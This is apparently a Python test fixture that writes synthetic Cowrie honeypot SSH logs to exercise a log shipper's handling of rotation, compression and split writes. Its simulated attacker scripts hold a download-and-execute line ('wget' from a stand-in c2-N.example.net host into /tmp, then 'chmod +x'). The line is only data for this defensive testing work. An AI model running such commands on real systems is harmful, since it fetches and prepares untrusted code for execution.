#!/usr/bin/python3
"""cowrie_writer.py DIR SENSORS SESSIONS SEED [options] - writes Cowrie JSON logs the way a
fleet of Cowrie sensors does, for the `cadre ship` tests (tests/it/ship*.sh) and the shipper's
latency bench.

DIR/<sensor>/cowrie.json gets the sessions of sensor <sensor> (SENSORS names them, comma
separated): connect, client version and kex (the actor's HASSH), failed and successful logins,
commands (some fetch a payload from the actor's C2 host), a download, closed. Actors (a
HASSH, credentials, a script, a pool of source IPs shared by every sensor) make identities and
campaigns worth clustering; an IP seen by two sensors must merge as appends. Each session is
written with one write() on a descriptor opened O_APPEND, so a reader sees whole sessions;
event times advance by a simulated clock, never by wall time.

Options:
  --rotate-every N      rotate a sensor's log after every N of its sessions
  --rotate-style S,...  per sensor: rename (cowrie.json -> cowrie.json.K, new cowrie.json, as
                        Cowrie's TimedRotatingFileHandler and logrotate's create) or copy
                        (copytruncate: cowrie.json copied to cowrie.json.K, then truncated in
                        place while the writer keeps its descriptor)
  --gzip-old            after a rotation, compress the previous rotated file (K-1) to
                        cowrie.json.K-1.gz and remove it (logrotate's delaycompress)
  --rate R              sessions per second (0: as fast as possible)
  --progress FILE       after every session, FILE holds the number written so far
  --split-every N       every Nth session is written in two writes with a pause of
                        --split-ms between them (a session a reader may see in two parts)
  --split-ms MS         that pause (default 300)
"""
import argparse
import gzip
import hashlib
import os
import random
import shutil
import sys
import time


def ts(t):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(int(t))) + ".%06dZ" % int(
        (t - int(t)) * 1e6)


class Sensor:
    def __init__(self, root, name, style, gzip_old):
        self.dir = os.path.join(root, name)
        os.makedirs(self.dir, exist_ok=True)
        self.name = name
        self.path = os.path.join(self.dir, "cowrie.json")
        self.style = style
        self.gzip_old = gzip_old
        self.fd = os.open(self.path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
        self.rotations = 0
        self.sessions = 0

    def write(self, data):
        os.write(self.fd, data.encode())

    def rotate(self):
        self.rotations += 1
        k = self.rotations
        old = "%s.%d" % (self.path, k)
        if self.style == "rename":
            os.close(self.fd)
            os.rename(self.path, old)
            self.fd = os.open(self.path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
        else:
            shutil.copyfile(self.path, old + ".tmp")
            os.rename(old + ".tmp", old)
            os.truncate(self.path, 0)
        if self.gzip_old and k > 1:
            prev = "%s.%d" % (self.path, k - 1)
            with open(prev, "rb") as src, gzip.open(prev + ".gz.tmp", "wb") as dst:
                shutil.copyfileobj(src, dst)
            os.rename(prev + ".gz.tmp", prev + ".gz")
            os.unlink(prev)


def actors(rng, n):
    out = []
    for a in range(n):
        c2 = "c2-%d.example.net" % a
        out.append({
            "hassh": hashlib.md5(b"hassh-%d" % a).hexdigest(),
            "creds": [("root", "pw%d-%d" % (a, k)) for k in range(rng.randint(1, 3))],
            "script": ["uname -a", "cat /proc/cpuinfo | grep name | wc -l",
                       "wget http://%s/bin/x%d -O /tmp/.x; chmod +x /tmp/.x" % (c2, a),
                       "echo %d > /tmp/.m" % a][: rng.randint(1, 4)],
            "payload": hashlib.sha256(b"payload-%d" % a).hexdigest(),
            "c2": c2,
            "ips": ["10.%d.%d.%d" % (a // 200, a % 200, k + 1) for k in range(rng.randint(1, 4))],
        })
    return out


def session_lines(rng, sensor, actor, ip, sid, t):
    ev = []

    def add(eventid, dt, **kw):
        nonlocal t
        t += dt
        rec = {"eventid": eventid, "timestamp": ts(t), "src_ip": ip, "session": sid,
               "sensor": sensor.name}
        rec.update(kw)
        ev.append(rec)

    add("cowrie.session.connect", 0.0, src_port=rng.randint(1024, 65535), dst_port=22,
        protocol="ssh")
    add("cowrie.client.version", 0.05, version="SSH-2.0-Go")
    add("cowrie.client.kex", 0.01, hassh=actor["hassh"])
    for k in range(rng.randint(0, 2)):
        add("cowrie.login.failed", 0.2, username="admin", password="x%d" % rng.randint(0, 9))
    user, pw = rng.choice(actor["creds"])
    add("cowrie.login.success", 0.2, username=user, password=pw)
    for cmd in actor["script"]:
        add("cowrie.command.input", 0.3, input=cmd)
    if rng.random() < 0.5:
        add("cowrie.session.file_download", 0.5, url="http://%s/bin/x" % actor["c2"],
            shasum=actor["payload"])
    add("cowrie.session.closed", 1.0, duration=3.0)
    return [json_line(e) for e in ev], t


def json_line(e):
    import json
    return json.dumps(e, sort_keys=True) + "\n"


def main():
    p = argparse.ArgumentParser()
    p.add_argument("dir")
    p.add_argument("sensors")
    p.add_argument("sessions", type=int)
    p.add_argument("seed", type=int)
    p.add_argument("--rotate-every", type=int, default=0)
    p.add_argument("--rotate-style", default="")
    p.add_argument("--gzip-old", action="store_true")
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--progress")
    p.add_argument("--split-every", type=int, default=0)
    p.add_argument("--split-ms", type=int, default=300)
    p.add_argument("--actors", type=int, default=40)
    a = p.parse_args()
    rng = random.Random(a.seed)
    names = a.sensors.split(",")
    styles = (a.rotate_style.split(",") if a.rotate_style else []) + ["rename"] * len(names)
    sensors = [Sensor(a.dir, n, styles[i], a.gzip_old) for i, n in enumerate(names)]
    acts = actors(rng, a.actors)
    clock = {s.name: 1711929600.0 for s in sensors}  # 2024-04-01T00:00:00Z
    t0 = time.monotonic()
    for i in range(a.sessions):
        s = rng.choice(sensors)
        actor = rng.choice(acts)
        ip = rng.choice(actor["ips"])
        sid = "%s%06x" % (s.name[:2], i)
        lines, clock[s.name] = session_lines(rng, s, actor, ip, sid, clock[s.name] + rng.random() * 5)
        if a.split_every and i % a.split_every == a.split_every - 1:
            k = len(lines) // 2
            s.write("".join(lines[:k]))
            time.sleep(a.split_ms / 1000.0)
            s.write("".join(lines[k:]))
        else:
            s.write("".join(lines))
        s.sessions += 1
        if a.rotate_every and s.sessions % a.rotate_every == 0:
            s.rotate()
        if a.progress:
            with open(a.progress + ".tmp", "w") as f:
                f.write("%d\n" % (i + 1))
            os.rename(a.progress + ".tmp", a.progress)
        if a.rate > 0:
            due = t0 + (i + 1) / a.rate
            now = time.monotonic()
            if due > now:
                time.sleep(due - now)
    return 0


if __name__ == "__main__":
    sys.exit(main())
